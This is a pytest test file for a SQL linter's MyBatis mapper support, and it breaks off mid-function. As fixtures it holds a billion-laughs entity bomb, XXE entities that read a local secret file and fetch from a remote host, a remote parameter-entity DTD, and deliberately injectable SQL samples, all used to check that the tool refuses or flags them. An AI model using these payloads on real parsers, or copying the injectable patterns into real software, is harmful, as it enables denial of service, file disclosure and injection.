"""MyBatis mapper XML through the whole pipeline: names, lines, includes across files, suppressions,
bad input and hostile XML."""

from __future__ import annotations

import socket
import time
from pathlib import Path

import pytest

from sqllint.config import Config
from sqllint.engine import run
from sqllint.extract import ExtractOptions
from sqllint.extract.mybatis import parse_mapper
from sqllint.extract.mybatis_queries import extract_mybatis
from sqllint.records import Finding

DOCTYPE = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" '
           '"http://mybatis.org/dtd/mybatis-3-mapper.dtd">\n')


def write(root: Path, name: str, text: str) -> Path:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def check(root: Path, *paths: str) -> list[Finding]:
    return run(list(paths) or ["."], Config(root=root), root, jobs=1).findings


def brief(findings: list[Finding]) -> list[tuple[str, str, int]]:
    return [(f.path, f.rule, f.line) for f in findings]


def test_statement_is_named_namespace_dot_id_at_its_element(tmp_path: Path) -> None:
    data = (DOCTYPE + '<mapper namespace="com.x.UserMapper">\n\n  <select id="byId">\n'
            "    SELECT * FROM users WHERE id = #{id}\n  </select>\n</mapper>\n").encode()
    [query] = extract_mybatis(data, "UserMapper.xml", ExtractOptions()).queries
    assert (query.scope, query.line, query.column, query.end_line, query.language, query.call) == (
        "com.x.UserMapper.byId", 5, 3, 7, "xml", "select")
    [finding] = check_one(tmp_path, data)
    assert (finding.rule, finding.line, finding.scope) == ("S011", 5, "com.x.UserMapper.byId")


def check_one(root: Path, data: bytes, name: str = "Mapper.xml") -> list[Finding]:
    (root / name).write_bytes(data)
    return check(root)


def test_includes_across_files_of_one_namespace_and_by_qualified_refid(tmp_path: Path) -> None:
    write(tmp_path, "common/Common.xml", DOCTYPE + """<mapper namespace="com.x.Common">
      <sql id="audit">${alias}.created_at, ${alias}.updated_at</sql>
      <sql id="page">LIMIT #{size}</sql>
    </mapper>""")
    write(tmp_path, "OrderMapper.xml", DOCTYPE + """<mapper namespace="com.x.OrderMapper">
      <sql id="cols">o.id, o.status, <include refid="com.x.Common.audit"><property name="alias" value="o"/></include></sql>
    </mapper>""")
    write(tmp_path, "OrderMapperExt.xml", DOCTYPE + """<mapper namespace="com.x.OrderMapper">
      <select id="recent">SELECT <include refid="cols"/> FROM orders o ORDER BY o.id
        <include refid="com.x.Common.page"/></select>
    </mapper>""")
    result = run(["."], Config(root=tmp_path), tmp_path, jobs=1, keep_parsed=True)
    assert result.findings == []
    [parsed] = result.parsed
    assert parsed.query.text == "SELECT o.id, o.status, o.created_at, o.updated_at FROM orders o ORDER BY o.id\nLIMIT ?"
    assert parsed.query.scope == "com.x.OrderMapper.recent"


def test_a_changed_mapper_checked_alone_still_finds_fragments_elsewhere_in_the_project(tmp_path: Path) -> None:
    write(tmp_path, "pyproject.toml", "[tool.sqllint]\n")
    write(tmp_path, "res/Common.xml", DOCTYPE + '<mapper namespace="c.Common"><sql id="cols">id, name</sql></mapper>')
    write(tmp_path, "res/UserMapper.xml", DOCTYPE + """<mapper namespace="c.UserMapper">
      <select id="all">SELECT <include refid="c.Common.cols"/> FROM users ORDER BY id LIMIT 10</select></mapper>""")
    assert run(["res/UserMapper.xml"], Config(root=tmp_path), tmp_path, jobs=1).findings == []


def test_include_properties_nest_and_reach_tests_and_refids(tmp_path: Path) -> None:
    data = (DOCTYPE + """<mapper namespace="n">
      <sql id="byCol"><if test="${param} != null">AND ${col} = #{${param}}</if></sql>
      <sql id="filters"><where><include refid="byCol"><property name="col" value="${alias}.status"/>
        <property name="param" value="status"/></include></where></sql>
      <select id="s">SELECT id FROM orders o <include refid="filters"><property name="alias" value="o"/></include></select>
    </mapper>""").encode()
    result = extract_mybatis(data, "M.xml", ExtractOptions())
    assert [(q.variant.label, q.text) for q in result.queries if q.variant] == [
        ("when status is absent", "SELECT id FROM orders o"),
        ("when status is present", "SELECT id FROM orders o WHERE o.status = ?"),
    ]


@pytest.mark.parametrize(("mapper", "line", "message"), [
    ('<mapper namespace="n">\n<select id="s">SELECT id FROM t\n<include refid="missing"/></select></mapper>', 5,
     '<include refid="missing"> names no <sql> fragment in namespace n: statement n.s was not checked'),
    ('<mapper namespace="n">\n<select id="s">SELECT id FROM t <include refid="other.Mapper.cols"/></select></mapper>', 4,
     '<include refid="other.Mapper.cols"> names no <sql> fragment (no checked mapper has namespace other.Mapper): '
     "statement n.s was not checked"),
    ('<mapper namespace="n">\n<sql id="a"><include refid="b"/></sql>\n<sql id="b"><include refid="a"/></sql>\n'
     '<select id="s">SELECT id FROM t WHERE <include refid="a"/></select></mapper>', 6,
     '<include refid="a"> includes itself (n.a → n.b → n.a) (in a <sql> fragment, M.xml:5): '
     "statement n.s was not checked"),
])
def test_unresolved_includes_are_reported_and_the_statement_skipped(mapper: str, line: int, message: str) -> None:
    result = extract_mybatis((DOCTYPE + mapper).encode(), "M.xml", ExtractOptions())
    assert result.queries == []
    assert [(p.code, p.line, p.message) for p in result.problems] == [("E021", line, message)]


def test_mapper_without_namespace_is_reported_and_still_checked(tmp_path: Path) -> None:
    found = check_one(tmp_path, (DOCTYPE + '<mapper>\n<delete id="purge">DELETE FROM t</delete>\n</mapper>').encode())
    assert [(f.rule, f.line) for f in found] == [("E021", 3), ("S004", 4)]
    assert "no namespace" in found[0].message


def test_malformed_xml_is_a_finding_with_its_line_and_other_files_go_on(tmp_path: Path) -> None:
    write(tmp_path, "Broken.xml", DOCTYPE + '<mapper namespace="n">\n<select id="s">SELECT 1\n</mapper>\n')
    write(tmp_path, "Good.xml", DOCTYPE + '<mapper namespace="g"><delete id="d">DELETE FROM t</delete></mapper>')
    found = check(tmp_path)
    assert brief(found) == [("Broken.xml", "E002", 5), ("Good.xml", "S004", 3)]
    assert found[0].message == "XML syntax error: mismatched tag; SQL in this file was not extracted"


@pytest.mark.parametrize("name,text", [
    ("pom.xml", '<?xml version="1.0"?><project><modelVersion>4.0.0</modelVersion><build><plugins/></build></project>'),
    ("logback.xml", "<configuration><appender name='x'><encoder><pattern>%d %msg</pattern></encoder></appender>"),
    ("applicationContext.xml", '<beans><bean class="org.mybatis.spring.mapper.MapperScannerConfigurer"/></beans>'),
    ("mybatis-config.xml", '<configuration><mappers><mapper resource="a.xml"/></mappers><broken></configuration>'),
    ("data.xml", "<rows>" + "<row a='1'/>" * 10 + "<unclosed></rows>"),
])
def test_xml_that_is_not_a_mapper_is_skipped_silently(tmp_path: Path, name: str, text: str) -> None:
    write(tmp_path, name, text)
    result = run(["."], Config(root=tmp_path), tmp_path, jobs=1)
    assert result.findings == [] and result.stats.queries == 0


def test_huge_and_binary_xml_that_is_not_a_mapper_is_skipped_silently(tmp_path: Path) -> None:
    write(tmp_path, "big.xml", "<rows>" + "<row a='1'/>\n" * 200_000 + "</rows>")
    (tmp_path / "compiled.xml").write_bytes(b"\x03\x00\x08\x00" + bytes(range(256)) * 10)
    write(tmp_path, "BigMapper.xml", '<mapper namespace="n">' + "<!-- padding -->\n" * 200_000 + "</mapper>")
    found = run(["."], Config(root=tmp_path, max_file_size=1_000_000), tmp_path, jobs=1).findings
    assert [(f.path, f.rule) for f in found] == [("BigMapper.xml", "E003")]
    assert "max-file-size" in found[0].message


def test_invalid_utf8_is_noted_and_the_statements_still_checked(tmp_path: Path) -> None:
    data = b'<mapper namespace="n">\n<!-- caf\xe9 -->\n<delete id="d">DELETE FROM t</delete></mapper>'
    assert brief(check_one(tmp_path, data)) == [("Mapper.xml", "E003", 1), ("Mapper.xml", "S004", 3)]


def test_gbk_mapper_is_read_in_its_declared_encoding(tmp_path: Path) -> None:
    text = '<?xml version="1.0" encoding="GBK"?>\n<mapper namespace="n">\n<!-- 删除 -->\n' \
           "<delete id=\"d\">DELETE FROM t WHERE note = '中文'</delete></mapper>"
    mapper = parse_mapper(text.encode("gbk"), "M.xml")
    assert mapper is not None and not mapper.problems
    [query] = extract_mybatis(text.encode("gbk"), "M.xml", ExtractOptions()).queries
    assert query.text == "DELETE FROM t WHERE note = '中文'" and query.line == 4


def test_suppressions_in_xml_comments(tmp_path: Path) -> None:
    data = (DOCTYPE + """<mapper namespace="n">
      <!-- sqllint: ignore[S004] wipes the staging table on purpose -->
      <delete id="wipe">DELETE FROM staging</delete>

      <delete id="other">DELETE FROM logs</delete>

      <select id="all">
        <!-- sqllint: ignore[select-star] -->
        SELECT * FROM t WHERE 1 = 1 <if test="x != null"><!-- sqllint: ignore[S004] --> AND x = #{x}</if>
      </select>
    </mapper>""").encode()
    found = check_one(tmp_path, data)
    # S016: x absent; N001: ignore[S004] on a SELECT silences nothing (select-star did silence S011)
    assert [(f.rule, f.line) for f in found] == [("S004", 7), ("N001", 9), ("S016", 9)]
    assert next(f.message for f in found if f.rule == "N001").startswith("`sqllint: ignore[S004]`")
    (tmp_path / "Mapper.xml").unlink()
    whole = data.replace(b"<mapper", b"<!-- sqllint: ignore-file[S004] -->\n<mapper")
    assert [(f.rule, f.line) for f in check_one(tmp_path, whole, "Whole.xml")] == [("S016", 10)]  # S004 off


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE mapper [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<mapper namespace="n"><select id="s">SELECT '&lol9;' FROM t</select></mapper>
"""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    attempts: list[object] = []

    def refuse(self: socket.socket, address: object) -> None:
        attempts.append(address)
        raise OSError("network access during a test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", lambda *a, **k: refuse(None, a))  # type: ignore[arg-type]
    return attempts


def test_billion_laughs_is_refused_not_expanded(tmp_path: Path, no_network: list[object]) -> None:
    write(tmp_path, "Evil.xml", BILLION_LAUGHS)
    started = time.perf_counter()
    result = run(["."], Config(root=tmp_path), tmp_path, jobs=1)
    assert time.perf_counter() - started < 5  # expanded, it would be 10^9 "lol"s
    assert [(f.rule, f.line) for f in result.findings] == [("E020", 3)]
    assert "refused, not expanded" in result.findings[0].message and result.stats.queries == 0
    assert no_network == []


def test_external_entities_are_refused_and_never_read(tmp_path: Path, no_network: list[object]) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE")
    write(tmp_path, "Xxe.xml", f"""<?xml version="1.0"?>
<!DOCTYPE mapper [ <!ENTITY leak SYSTEM "file://{secret}"> <!ENTITY remote SYSTEM "http://198.51.100.7/x"> ]>
<mapper namespace="n"><select id="s">SELECT '&leak;&remote;' FROM t</select></mapper>
""")
    write(tmp_path, "Param.xml", """<?xml version="1.0"?>
<!DOCTYPE mapper [ <!ENTITY % dtd SYSTEM "http://198.51.100.7/evil.dtd"> %dtd; ]>
<mapper namespace="p"><select id="s">SELECT 1</select></mapper>
""")
    result = run(["."], Config(root=tmp_path), tmp_path, jobs=1, keep_parsed=True)
    assert brief(result.findings) == [("Param.xml", "E020", 2), ("Xxe.xml", "E020", 2)]
    assert result.parsed == [] and no_network == []
    assert not any("TOP-SECRET" in f.message + f.sql for f in result.findings)


def test_the_mybatis_doctype_is_accepted_and_never_fetched(tmp_path: Path, no_network: list[object]) -> None:
    write(tmp_path, "M.xml", DOCTYPE + '<mapper namespace="n"><select id="s">SELECT id FROM t WHERE id = #{id}'
                                       "</select></mapper>")
    write(tmp_path, "Sys.xml", '<!DOCTYPE mapper SYSTEM "http://198.51.100.7/mapper.dtd">\n'
                               '<mapper namespace="s"><select id="s">SELECT id FROM t WHERE id = #{id}</select></mapper>')
    result = run(["."], Config(root=tmp_path), tmp_path, jobs=1)
    assert result.findings == [] and result.stats.statements == 2 and no_network == []


def test_interpolation_is_the_injection_finding(tmp_path: Path) -> None:
    data = (DOCTYPE + """<mapper namespace="n">
      <select id="s">SELECT id FROM t WHERE name LIKE '%${kw}%' ORDER BY ${sort} LIMIT 10</select>
    </mapper>""").encode()
    found = check_one(tmp_path, data)
    assert [(f.rule, f.line) for f in found] == [("S003", 4), ("S003", 4), ("S005", 4)]
    assert {f.message.split(" ")[0] for f in found if f.rule == "S003"} == {"`kw`", "`sort`"}


def test_other_databases_statements_and_script_languages_are_left_out() -> None:
    data = (DOCTYPE + """<mapper namespace="n">
      <sql id="page" databaseId="oracle">FETCH FIRST #{n} ROWS ONLY</sql>
      <sql id="page">LIMIT #{n}</sql>
      <select id="top" databaseId="oracle">SELECT id FROM t ORDER BY id <include refid="page"/></select>
      <select id="top" databaseId="mysql">SELECT id FROM t ORDER BY id <include refid="page"/></select>
      <select id="v" lang="velocity">SELECT id FROM t #if($a) WHERE a = @{a} #end</select>
      <select id="call" statementType="CALLABLE">{call refresh_stats(#{day, mode=IN})}</select>
    </mapper>""").encode()
    result = extract_mybatis(data, "M.xml", ExtractOptions())
    assert [(q.scope, q.line, q.text) for q in result.queries] == [
        ("n.top", 7, "SELECT id FROM t ORDER BY id LIMIT ?"), ("n.call", 9, "call refresh_stats(?)")]
    assert result.problems == []


def test_absurd_nesting_is_refused_without_crashing_the_run(tmp_path: Path) -> None:
    deep = "<if test='a'>" * 5000 + "x = 1" + "</if>" * 5000
    write(tmp_path, "Deep.xml", f'<mapper namespace="n"><select id="s">SELECT id FROM t WHERE {deep}</select></mapper>')
    write(tmp_path, "Good.xml", '<mapper namespace="g"><delete id="d">DELETE FROM t</delete></mapper>')
    found = check(tmp_path)
    assert [(f.path, f.rule) for f in found] == [("Deep.xml", "E020"), ("Good.xml", "S004")]
    assert "nest more than 200 deep" in found[0].message


def test_includes_that_multiply_are_refused_not_expanded() -> None:
    levels = "".join(f'<sql id="f{i}"><include refid="f{i + 1}"/> <include refid="f{i + 1}"/></sql>\n'
                     for i in range(30))
    deep = "".join(f'<sql id="d{i}"><include refid="d{i + 1}"/></sql>\n' for i in range(40))
    data = (DOCTYPE + f"""<mapper namespace="n">{levels}<sql id="f30">x</sql>{deep}<sql id="d40">1</sql>
      <select id="bomb">SELECT <include refid="f0"/> FROM t</select>
      <select id="chain">SELECT <include refid="d0"/> FROM t</select></mapper>""").encode()
    started = time.perf_counter()
    result = extract_mybatis(data, "M.xml", ExtractOptions())
    assert time.perf_counter() - started < 2 and result.queries == []
    assert [(p.code, "expands beyond 32 nested or 5,000 included fragments" in p.message) for p in result.problems] \
        == [("E021", True), ("E021", True)]


def test_order_by_column_and_direction_from_the_caller_are_two_identifiers(tmp_path: Path) -> None:
    data = (DOCTYPE + """<mapper namespace="n">
      <select id="page">SELECT id, name FROM users ORDER BY ${sortField} ${sortOrder} LIMIT #{offset}, #{size}</select>
    </mapper>""").encode()
    [query] = extract_mybatis(data, "M.xml", ExtractOptions()).queries
    assert query.text == "SELECT id, name FROM users ORDER BY sqllint_hole_1 ASC LIMIT ?, ?"
    assert [(p.name, p.identifier) for p in query.placeholders] == [
        ("sortField", True), ("sortOrder", True), ("offset", False), ("size", False)]
    [finding] = check_one(tmp_path, data)
    assert finding.rule == "S003" and finding.message.startswith("`sortField`, `sortOrder` name tables or columns")


def test_bind_values_are_visible_to_the_rules(tmp_path: Path) -> None:
    data = (DOCTYPE + """<mapper namespace="n">
      <sql id="byName">name LIKE #{pattern}</sql>
      <select id="search">
        <bind name="pattern" value="'%' + query.name.trim() + '%'"/>
        SELECT id FROM users WHERE <include refid="byName"/> ORDER BY id LIMIT 20
      </select>
      <select id="prefix"><bind name="p" value="name + '%'"/>SELECT id FROM users WHERE name LIKE #{p} LIMIT 5</select>
    </mapper>""").encode()
    queries = extract_mybatis(data, "M.xml", ExtractOptions()).queries
    assert [q.raw for q in queries] == [
        "SELECT id FROM users WHERE name LIKE CONCAT('%', #{query.name}, '%') ORDER BY id LIMIT 20",
        "SELECT id FROM users WHERE name LIKE CONCAT(#{name}, '%') LIMIT 5"]
    assert [p.name for p in queries[0].placeholders] == ["query.name"]
    assert [(f.rule, f.scope) for f in check_one(tmp_path, data)] == [("S005", "n.search")]


MBG_WHERE = """<sql id="Example_Where_Clause"><where>
  <foreach collection="oredCriteria" item="criteria" separator="or"><if test="criteria.valid">
    <trim prefix="(" prefixOverrides="and" suffix=")"><foreach collection="criteria.criteria" item="criterion">
      <choose>
        <when test="criterion.noValue">and ${criterion.condition}</when>
        <when test="criterion.singleValue">and ${criterion.condition} #{criterion.value}</when>
        <when test="criterion.betweenValue">and ${criterion.condition} #{criterion.value} and #{criterion.secondValue}</when>
        <when test="criterion.listValue">and ${criterion.condition}
          <foreach close=")" collection="criterion.value" item="listItem" open="(" separator=",">#{listItem}</foreach>
        </when>
      </choose>
    </foreach></trim>
  </if></foreach>
</where></sql>"""


def test_mybatis_generator_example_where_clause_parses_and_its_conditions_are_not_injection(tmp_path: Path) -> None:
    # The shape MyBatis Generator writes into every mapper: ${criterion.condition} ("id =", "name like")
    # comes from the generated Criteria's constants; ${orderByClause} is the caller's and is reported.
    data = (DOCTYPE + f"""<mapper namespace="n">{MBG_WHERE}
      <select id="selectByExample">select id, name from t
        <if test="_parameter != null"><include refid="Example_Where_Clause" /></if>
        <if test="orderByClause != null">order by ${{orderByClause}}</if>
      </select></mapper>""").encode()
    queries = extract_mybatis(data, "M.xml", ExtractOptions()).queries
    assert any("( sqllint_hole_1 = ? and" in q.text for q in queries), [q.text for q in queries]
    found = check_one(tmp_path, data)
    # S016: selectByExample without criteria reads the whole table, as it does
    assert [(f.rule, f.message.split(" ")[0]) for f in found] == [("S003", "`orderByClause`"), ("S016", "with")]


def test_a_spliced_column_and_operator_before_a_value_is_a_checked_name(tmp_path: Path) -> None:
    data = (DOCTYPE + """<mapper namespace="n">
      <select id="s">SELECT id FROM t WHERE status = 1 AND ${column} #{value}</select></mapper>""").encode()
    [query] = extract_mybatis(data, "M.xml", ExtractOptions()).queries
    assert query.text == "SELECT id FROM t WHERE status = 1 AND sqllint_hole_1 = ?"
    [finding] = check_one(tmp_path, data)
    assert finding.rule == "S003" and finding.message.startswith("`column` names a table or column")


def test_a_clause_spliced_into_every_variant_is_one_finding_not_one_per_variant(tmp_path: Path) -> None:
    # RuoYi's data-permission idiom: every list query ends in ${params.dataScope}.
    data = (DOCTYPE + """<mapper namespace="n">
      <select id="list">SELECT u.id FROM sys_user u WHERE u.del_flag = '0'
        <if test="name != null and name != ''">AND u.name = #{name}</if>
        <if test="status != null">AND u.status = #{status}</if>
        ${params.dataScope}
      </select></mapper>""").encode()
    queries = extract_mybatis(data, "M.xml", ExtractOptions()).queries
    # Checked without the clause (an administrator's scope is empty); the variants with it are unresolved.
    assert sum(1 for q in queries if not any(p.fragment for p in q.placeholders)) == 3  # off, name, status
    [finding] = check_one(tmp_path, data)
    assert (finding.rule, finding.variant) == ("E004", "when name, status, dataScope are present (+1 more variant)")
    assert "`params.dataScope`" in finding.message


def test_a_spliced_name_being_compared_is_a_name_and_messages_show_it_as_written(tmp_path: Path) -> None:
    # JeecgBoot's dictionary lookups: ${code} / ${text} are columns compared with bound values.
    data = (DOCTYPE + """<mapper namespace="n">
      <select id="s">SELECT id FROM dict WHERE ${code} = #{key} AND ${text} LIKE CONCAT('%', #{kw})</select>
    </mapper>""").encode()
    [query] = extract_mybatis(data, "M.xml", ExtractOptions()).queries
    assert [(p.name, p.identifier) for p in query.placeholders] == [
        ("code", True), ("key", False), ("text", True), ("kw", False)]
    found = {f.rule: f.message for f in check_one(tmp_path, data)}
    assert found["S003"].startswith("`code`, `text` name tables or columns")
    assert found["S005"] == ("`${text} LIKE CONCAT('%', ?)` starts with a wildcard, so no index on ${text} "
                             "can be used")


def test_python_messages_name_a_spliced_table_as_the_code_writes_it(tmp_path: Path) -> None:
    (tmp_path / "q.py").write_text(
        "def f(cur, table):\n"
        "    cur.execute(f'SELECT a.id FROM {table} a JOIN b ON b.x = a.x JOIN c ON c.y = b.y '\n"
        "                f'JOIN d ON d.z = c.z JOIN e ON e.q = d.q')\n")
    [wide] = [f for f in check(tmp_path) if f.rule == "S002"]
    assert "({table}, b, c, d, e)" in wide.message


def test_interpolation_in_several_variants_is_one_finding_naming_every_spliced_value(tmp_path: Path) -> None:
    # A SET list built from optional fields, each formatted in: 2^n variants, one injection finding.
    (tmp_path / "users.py").write_text(
        "def update_user(cursor, user, user_id):\n"
        "    parts = []\n"
        "    if user.name:\n"
        "        parts.append(f\"name = '{user.name}'\")\n"
        "    if user.email:\n"
        "        parts.append(f\"email = '{user.email}'\")\n"
        "    if user.bio:\n"
        "        parts.append(f\"bio = '{user.bio}'\")\n"
        "    cursor.execute('UPDATE users SET ' + ', '.join(parts) + f' WHERE userid = {user_id}')\n")
    data = (DOCTYPE + """<mapper namespace="n"><select id="s">SELECT id FROM t WHERE a = 1
      <if test="x != null">AND x = ${x}</if><if test="y != null">AND y = ${y}</if></select></mapper>""").encode()
    (tmp_path / "M.xml").write_bytes(data)
    found = [(f.path, f.message.split(" are ")[0], f.variant) for f in check(tmp_path) if f.rule == "S003"]
    assert found == [("M.xml", "`x`, `y`", "when x, y are present (+2 more variants)"),
                     ("users.py", "`user.name`, `user.email`, `user.bio`, `user_id`", None)]


def test_two_spliced_tables_are_not_taken_for_one(tmp_path: Path) -> None:
    (tmp_path / "views.py").write_text(
        "def profil(request, id):\n"
        "    staf = Staf.objects.raw('SELECT name FROM %s WHERE id_narasumber=%%s' % (Staf._meta.db_table,), [id])\n"
        "    dosen = Staf.objects.raw('SELECT name FROM %s WHERE id_narasumber=%%s' % (Dosen._meta.db_table,), [id])\n"
        "    again = Staf.objects.raw('SELECT title FROM %s WHERE id_narasumber=%%s' % (Dosen._meta.db_table,), [id])\n")
    [merge] = [f for f in check(tmp_path) if f.rule == "M001"]
    assert (merge.line, merge.message.split(" by ")[0]) == (4, "reads {Dosen._meta.db_table}")


def test_a_parse_error_says_where_and_never_names_sqlglot_classes(tmp_path: Path) -> None:
    # A RuoYi fork binds the data-scope clause with #{} (a value) where ${} (text) was meant.
    data = (DOCTYPE + """<mapper namespace="n"><select id="s">select d.id from sys_dept d
      where d.del_flag = '0' #{params.dataScope} order by d.order_num</select></mapper>""").encode()
    [finding] = check_one(tmp_path, data)
    assert finding.rule == "E001" and "sqlglot" not in finding.message and "<class" not in finding.message
    assert "at `…from sys_dept d where d.del_flag = '0' ? ⟨order by⟩ d.order_num`" in finding.message


def test_a_statement_id_defined_twice_is_reported_where_mybatis_would_refuse_to_start(tmp_path: Path) -> None:
    # A copy-pasted <select> left with its old id: MyBatis throws "Mapped Statements collection
    # already contains value" at start-up. Same id under another databaseId is per-database SQL.
    write(tmp_path, "OrderMapper.xml", DOCTYPE + """<mapper namespace="com.x.OrderMapper">
      <sql id="cols">id, status</sql>
      <select id="byId">SELECT id FROM orders WHERE id = #{id}</select>
      <select id="byId">SELECT id, status FROM orders WHERE id = #{id}</select>
      <select id="page" databaseId="mysql">SELECT id FROM orders LIMIT 10</select>
      <select id="page" databaseId="oracle">SELECT id FROM orders FETCH FIRST 10 ROWS ONLY</select>
      <sql id="cols">id</sql>
    </mapper>""")
    found = [(f.rule, f.line, f.message) for f in check(tmp_path) if f.rule == "E023"]
    assert [(rule, line) for rule, line, _ in found] == [("E023", 6), ("E023", 9)]
    assert "first on line 5" in found[0][2] and "com.x.OrderMapper.byId" in found[0][2]


def test_a_statement_defined_again_in_another_file_of_its_namespace_is_reported(tmp_path: Path) -> None:
    write(tmp_path, "a/OrderMapper.xml", DOCTYPE + """<mapper namespace="com.x.OrderMapper">
      <select id="byId">SELECT id FROM orders WHERE id = #{id}</select></mapper>""")
    write(tmp_path, "b/OrderMapperExt.xml", DOCTYPE + """<mapper namespace="com.x.OrderMapper">
      <select id="byId">SELECT id FROM orders WHERE id = #{id}</select>
      <select id="byStatus">SELECT id FROM orders WHERE status = #{s}</select></mapper>""")
    write(tmp_path, "OrderMapper.java", """package com.x;
    public interface OrderMapper {
        @Select("SELECT id FROM orders WHERE status = #{s}")
        List<Long> byStatus(String s);
    }""")
    found = sorted((f.path, f.line, f.message) for f in check(tmp_path) if f.rule == "E023")
    # The copy the project index met first stands; the other of each pair is reported.
    assert [(path, line) for path, line, _ in found] == [("b/OrderMapperExt.xml", 4), ("b/OrderMapperExt.xml", 5)]
    assert "also defined in a/OrderMapper.xml:4" in found[0][2] and "OrderMapper.java:3" in found[1][2]


def test_a_parse_error_points_at_the_mapper_line_the_parser_stopped_on(tmp_path: Path) -> None:
    # A statement spread over lines (one of them from a <sql> fragment of the same file): the E001 is
    # reported where the broken SQL is written, not where <select> opens.
    write(tmp_path, "M.xml", """<?xml version="1.0" encoding="UTF-8"?>
<mapper namespace="com.x.M">
  <sql id="cols">id,
     name</sql>
  <select id="open">
    SELECT <include refid="cols"/>
    FROM users
    WHERE id = #{id}
      AND (status = 1
    ORDER BY id
  </select>
  <select id="glued">
    SELECT id FROM users WHERE <if test="x != null">x = = 1</if>
  </select>
</mapper>""")
    found = sorted((f.line, f.column, f.message) for f in check(tmp_path) if f.rule == "E001")
    assert [(line, column) for line, column, _ in found] == [(10, 12), (12, 3)]
    assert "(statement line 6)" in found[0][2]
    # Text of the statement and of its <if> share a line of the built SQL: said, and the statement's line kept.
    assert "a line joining several elements' text" in found[1][2]


def test_one_broken_if_is_one_parse_error_however_many_variants_carry_it(tmp_path: Path) -> None:
    write(tmp_path, "M.xml", DOCTYPE + """<mapper namespace="com.x.M">
  <select id="search">
    SELECT id FROM orders
    <where>
      <if test="status != null">AND status = #{status}</if>
      <if test="kw != null">AND note LIKE CONCAT(#{kw}, '%') AND (</if>
      <if test="since != null">AND created_at >= #{since}</if>
    </where>
  </select>
</mapper>""")
    found = [f for f in check(tmp_path) if f.rule == "E001"]
    # Two variants hold the broken <if> (kw alone, every part on) and fail at different tokens: one finding.
    assert len(found) == 1, [f.message for f in found]
    assert found[0].variant is not None and found[0].variant.endswith("(+1 more variant)")


def test_framework_clauses_are_checked_as_they_run_when_empty(tmp_path: Path) -> None:
    # RuoYi's ${params.dataScope} (empty for administrators) and MyBatis-Plus's ${ew.customSqlSegment}
    # (empty for a wrapper without conditions) end many SELECTs: the statement is checked without the
    # clause; the variant with it stays an E004 note. The wrapper's ${ew.sqlSelect} is not an injection.
    write(tmp_path, "UserMapper.xml", DOCTYPE + """<mapper namespace="com.x.UserMapper">
      <select id="list">select u.id from sys_user u where u.del_flag = '0'
        <if test="name != null">AND u.name like concat('%', #{name}, '%')</if>
        ${params.dataScope}
      </select>
      <select id="page">select <if test="ew.sqlSelect != null">${ew.sqlSelect}</if>
        <if test="ew.sqlSelect == null">*</if> from sys_user u ${ew.customSqlSegment}</select>
      <update id="touch">update sys_user set seen = now() ${ew.customSqlSegment}</update>
    </mapper>""")
    found = sorted((f.rule, f.line, f.variant or "") for f in check(tmp_path))
    assert ("S005", 4, "when dataScope is absent; name is present") in found
    assert ("E004", 4, "when name, dataScope are present (+1 more variant)") in found
    assert [rule for rule, line, _ in found if line == 8] == ["E004", "S011"]  # no S003 for ew.sqlSelect
    assert [(rule, variant) for rule, line, variant in found if line == 10] == [("E004", "")]  # a write: not guessed


def test_generated_writes_by_example_are_not_writes_without_where(tmp_path: Path) -> None:
    # MyBatis Generator's deleteByExample / updateByExampleSelective are called with an example: the
    # "null example" and "every criteria group empty" variants are not how they run. A hand-written
    # delete whose WHERE is optional is still reported; the generated selective column list is no injection.
    data = (DOCTYPE + f"""<mapper namespace="n">{MBG_WHERE}
      <delete id="deleteByExample">delete from t
        <if test="_parameter != null"><include refid="Example_Where_Clause" /></if></delete>
      <update id="updateByExampleSelective">update t <set><if test="record.name != null">name = #{{record.name}},</if></set>
        <if test="_parameter != null"><include refid="Example_Where_Clause" /></if></update>
      <delete id="purge">delete from t <if test="ids != null">where id in
        <foreach collection="ids" item="id" open="(" separator="," close=")">#{{id}}</foreach></if></delete>
      <select id="selectSelective">select <foreach collection="selective" item="column" separator=",">${{column.value}}</foreach>
        from t where id = #{{id}}</select>
    </mapper>""").encode()
    assert [(f.rule, f.scope) for f in check_one(tmp_path, data)] == [("S004", "n.purge")]


def test_a_parameter_inside_a_quoted_literal_is_reported_where_it_is_written(tmp_path: Path) -> None:
    # '#{name}' inside quotes is sent as a '?' character: binding fails at run time.
    write(tmp_path, "GoodsMapper.xml", DOCTYPE + """<mapper namespace="n">
      <select id="search">select id from goods
        <where>
          <if test="name != null">and name like CONCAT('%','#{name}','%')</if>
          <if test="kw != null">and (intro like CONCAT('%',#{kw},'%') or note = 'a''#b' -- it's fine
            )</if>
        </where></select>
    </mapper>""")
    found = [(f.rule, f.line, f.column) for f in check(tmp_path) if f.rule.startswith("E")]
    assert found == [("E024", 6, 7)]  # the text starts inside <if> on that line: column not known, the statement's given


def test_namespace_copies_in_two_build_modules_are_not_duplicates(tmp_path: Path) -> None:
    # An admin app and an API app of one repository each ship their own copy of a mapper; they are
    # never loaded by one SqlSessionFactory.
    mapper = DOCTYPE + """<mapper namespace="com.x.OrderMapper">
      <select id="byId">SELECT id FROM orders WHERE id = #{id}</select></mapper>"""
    write(tmp_path, "admin/src/main/resources/mapper/OrderMapper.xml", mapper)
    write(tmp_path, "api/src/main/resources/mapper/OrderMapper.xml", mapper)
    assert [f for f in check(tmp_path) if f.rule == "E023"] == []


def test_a_nested_select_of_a_result_map_runs_once_per_row(tmp_path: Path) -> None:
    # <collection select="…"> runs the nested statement for every row of the outer one: N+1 in XML.
